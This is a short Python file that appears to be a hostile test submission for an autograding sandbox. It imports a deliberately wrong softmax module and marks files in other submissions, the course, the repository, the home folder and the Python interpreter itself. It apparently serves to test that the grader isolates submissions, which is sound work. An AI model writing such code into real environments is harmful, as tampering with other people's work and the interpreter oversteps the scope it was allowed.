"""Writes into other submissions, the course, the repository, the home folder and the interpreter.

Dresses up: wrong.
"""
import os
import sys

from loot import mark, place
from wrong import log_softmax, softmax, softmax_jvp

for path in (*place["marks"], *place["files"], os.path.join(sys.prefix, "lib", "PWNED"), os.__file__, sys.executable):
    mark(path)
